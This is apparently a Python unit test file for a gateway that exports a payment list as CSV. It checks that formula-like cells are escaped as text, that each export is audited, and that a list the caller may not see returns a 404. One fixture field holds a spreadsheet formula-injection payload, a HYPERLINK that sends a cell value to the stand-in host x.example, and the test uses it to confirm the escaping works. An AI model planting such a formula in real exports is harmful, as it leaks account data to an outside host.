"""The payment list's CSV export: the list from the assistance service, every cell safe in a spreadsheet."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx

from common.errors import NotFound
from tests.unit.gateway.conftest import FakePublisher, FakeRpc, Keys, bearer, claims

LIST_ID = "2026-03_DZ-16_ccp"
PAYMENT: dict[str, Any] = {
    "reference": "66b0c2f1e4a1b2c3d4e5f601-1",
    "request_id": "66b0c2f1e4a1b2c3d4e5f601",
    "area": "/DZ/16/1601",
    "amount_dzd": 15000,
    "point": "ccp",
    "account": "009876543210",
    "status": "failed",
    "attempt": 1,
    "failure": '=HYPERLINK("http://x.example/?"&B2,"compte clos")',
}


def agent(keys: Keys) -> dict[str, str]:
    return bearer(keys.sign(claims(area="/DZ/16", roles=("wilaya-agent",))))


async def test_the_export_is_csv_with_formula_like_cells_as_text(
    client: httpx.AsyncClient, keys: Keys, rpc: FakeRpc, published: FakePublisher
) -> None:
    listed = {"id": LIST_ID, "period": "2026-03", "area": "/DZ/16", "point": "ccp", "status": "sent"}
    rpc.answers["assistance.get_payment_list"] = {**listed, "total_dzd": 15000, "payments": [PAYMENT]}
    response = await client.get(f"/v1/payment-lists/{LIST_ID}/csv", headers=agent(keys))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert f'filename="payments_{LIST_ID}.csv"' in response.headers["content-disposition"]
    assert rpc.calls[0][:3] == ("assistance", "get_payment_list", (LIST_ID,))
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert row["failure"] == "'" + PAYMENT["failure"]
    assert (row["reference"], row["amount_dzd"], row["paid_at"]) == (PAYMENT["reference"], "15000", "")
    [(kind, entry)] = published.events  # the export is audited: it hands out accounts
    assert (kind, entry["action"], entry["object_id"], entry["outcome"]) == (
        "audit_entry",
        "payment_list.export",
        LIST_ID,
        "success",
    )


async def test_a_list_the_caller_may_not_see_is_404_as_json(
    client: httpx.AsyncClient, keys: Keys, rpc: FakeRpc
) -> None:
    rpc.answers["assistance.get_payment_list"] = NotFound("payment list not found")
    response = await client.get(f"/v1/payment-lists/{LIST_ID}/csv", headers=agent(keys))
    assert response.status_code == 404 and response.json()["code"] == "not_found"
